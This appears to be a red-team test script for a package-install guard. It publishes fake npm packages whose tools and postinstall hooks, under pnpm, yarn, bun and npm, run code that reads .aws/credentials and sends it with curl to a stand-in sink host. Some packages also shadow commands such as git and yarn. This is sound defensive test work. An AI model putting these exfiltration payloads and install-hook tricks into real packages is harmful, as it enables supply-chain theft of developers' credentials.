#!/bin/bash
# M08: the same ways of R57 and M07 to have a package's code run, under each manager and layout of
# node_modules: a tool, one without `#!`, one called like a manager; a program and a module that a
# package wrote, and a link to its code.
# vm: no (downloads the managers)
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh
. tests/redteam/managers.sh
[ -n "${LAB_INSIDE:-}" ] || managers_fetch pnpm10 yarn1 yarn4 bun

rt_begin M08 "a package's code, under each manager"
RT_HONEST=(ms) RT_SCRIPTED=()
AT=/tmp/${LAB##*/}-m08
LOOT=.aws/credentials
BUN=$MANAGERS/bun/node_modules/.bin/bun
js() { printf "require('child_process').execFileSync('curl', ['-s', '--data-binary', \
require('fs').readFileSync('%s'), 'http://%s/%s'])" "$RT_HOME/$LOOT" "$RT_SINK" "$1"; }
sh_() { printf 'd=$(cat %s) && curl -s --data-binary "$d" http://%s/%s' "$RT_HOME/$LOOT" \
	"$RT_SINK" "$1"; }
USES=()
tool() { # NAME COMMAND FIRST-LINE LANGUAGE USE
	local dir=$LAB/packages/$1
	mkdir -p "$dir" && printf '%s%s\n' "${3:+$3$'\n'}" "$("$4" "$1")" >"$dir/tool" &&
		chmod 755 "$dir/tool"
	rt_package "$1" 1.0.0 - - -
	jq --arg c "$2" '.version = "1.0.1" | .bin = {($c): "tool"}' "$dir/package.json" \
		>"$LAB/p.json" && cat "$LAB/p.json" >"$dir/package.json"
	lab_publish "$dir"
	USES+=("$5")
}
plants() { # NAME LANGUAGE SCRIPT USE
	mkdir -p "$LAB/packages/$1" && "$2" "$1" >"$LAB/packages/$1/code"
	rt_package "$1" 1.0.0 - postinstall "$3"
	USES+=("$4")
}
node='#!/usr/bin/env node'
tool shell-x shell-it '#!/bin/sh' sh_ shell-it
tool node-x node-it "$node" js node-it
tool noformat-x noformat-it '' sh_ "bash -c 'noformat-it; true'"
tool pnpm-x pnpm "$node" js 'pnpm run x'
tool git-x git '#!/bin/sh' sh_ 'git status'
tool alias-x yarn "$node" js 'yarn run x'
unset 'RT_DEPENDENCIES[-1]' # ... but as `yarn`
plants program-x sh_ "sed '1i#!/bin/sh' -i code && cp code $AT-p && chmod 755 $AT-p" "$AT-p"
plants module-x js 'mkdir -p "$INIT_CWD/gen" && cp code "$INIT_CWD/gen/a.js"' \
	'node build.js ./gen/a.js'
plants link-x sh_ "ln -s \"\$PWD/code\" l && mv l $AT-l" "sh $AT-l"
if managers_have bun; then
	plants bun-x js "cp code $AT-b.js" "$BUN $AT-b.js"
	plants bunmodule-x js "cp code $AT-bm.js" "$BUN build.js $AT-bm.js"
fi
# Yarn 4 has a shell of its own, which redirects in its own process (M09). pnpm ends
# when a script's shell is killed, so only yarn 4 gets this.
plants written-x sh_ "cat code >$AT-r" "sh $AT-r"
names=$(printf '%s\n' "${RT_ATTACKERS[@]%% *}" | sort)

rt_setup() {
	rm -rf "$AT"-*
	printf '%s\n' "${USES[@]}" >"$LAB/uses"
	lab_as_user "$RT_PROJECT" sh -c 'echo "try { require(process.argv[2]) } catch { }" >build.js
		sed "s/.*/( & )/" >uses.sh' <"$LAB/uses"
	(cd "$RT_PROJECT" && node -e '
		const fs = require("fs"), p = JSON.parse(fs.readFileSync("package.json"));
		const [manager, registry] = process.argv.slice(1);
		if (!/^yarn4/.test(manager))
			delete p.optionalDependencies["written-x"];
		p.trustedDependencies = Object.keys(p.optionalDependencies);
		p.pnpm = { onlyBuiltDependencies: p.trustedDependencies };
		p.optionalDependencies.yarn = "npm:alias-x@1.0.1";
		p.scripts = { [/^yarn4/.test(manager) ? "postinstall" : "prepare"]:
			"sh uses.sh; true" };
		fs.writeFileSync("package.json", JSON.stringify(p, null, 2));
		const yaml = (file, lines) => fs.writeFileSync(file, lines.join("\n") + "\n");
		if (/^yarn4/.test(manager)) {
			yaml(".yarnrc.yml", [`npmRegistryServer: "${registry}"`,
				"unsafeHttpWhitelist: [\"127.0.0.1\"]", "enableScripts: true",
				"nodeLinker: " + (manager === "yarn4-pnp" ? "pnp" : "node-modules"),
				"npmMinimalAgeGate: 0", "enableTelemetry: false"]);
			fs.writeFileSync("yarn.lock", "");
		}
		if (manager === "pnpm10-hoisted")
			yaml("pnpm-workspace.yaml", ["nodeLinker: hoisted"]);
		if (manager === "pnpm10-store")
			yaml("pnpm-workspace.yaml", ["enableGlobalVirtualStore: true"]);
		' "$MANAGER" "$LAB_REGISTRY")
	chown -R "$LAB_UID:$LAB_GID" "$RT_PROJECT"
}
taken() { rt_requests | grep -o '/[a-z]*-x' | tr -d / | sort -u; }

# All take two minutes: LANES='npm pnpm10 pnpm10-hoisted pnpm10-store yarn1 yarn4 yarn4-pnp bun'
lanes=${LANES:-pnpm10-store yarn4-pnp bun}
for MANAGER in $lanes; do
	managers_have "${MANAGER%%-*}" || { echo "# $MANAGER left out: unavailable"; continue; }
	bin=$MANAGERS/${MANAGER%%-*}/node_modules/.bin
	case $MANAGER in
	npm) RT_COMMAND=(npm install) ;;
	pnpm10*) RT_COMMAND=("$bin/pnpm" install --no-frozen-lockfile) ;;
	yarn1) RT_COMMAND=("$bin/yarn" install --no-lockfile) ;;
	yarn4*) RT_COMMAND=("$bin/yarn" install) ;;
	bun) RT_COMMAND=("$bin/bun" install) ;;
	esac
	# yarn 4's own shell finds no commands of dependencies by PATH, pnp has no .bin; yarn 1 has
	# its own program called yarn before all others
	through=
	case $MANAGER in
	yarn4*) none='^(git|link|noformat|shell)-x$' through=written-x ;;
	yarn1) none='^(alias|module|node|pnpm|written)-x$' ;;
	*) none='^written-x$' ;;
	esac
	rt_control "$MANAGER"
	rt_is 'the code of each was run' "$(taken | grep -vE "$none")" \
		"$(grep -vE "$none" <<<"$names")"
	rt_guarded "$MANAGER" || continue
	rt_is 'what got through' "$(taken)" "$through"
	[ -z "$through" ] || rt_leaked .aws/credentials
	rt_is 'exit status' "$RT_STATUS" 86
	rt_ok 'a tool is accused' rt_events wormsign.verdict=kill wormsign.actor=tool \
		'wormsign.effect~killed|refused'
	rt_no_survivors
done
rm -rf "$AT"-*
rt_end
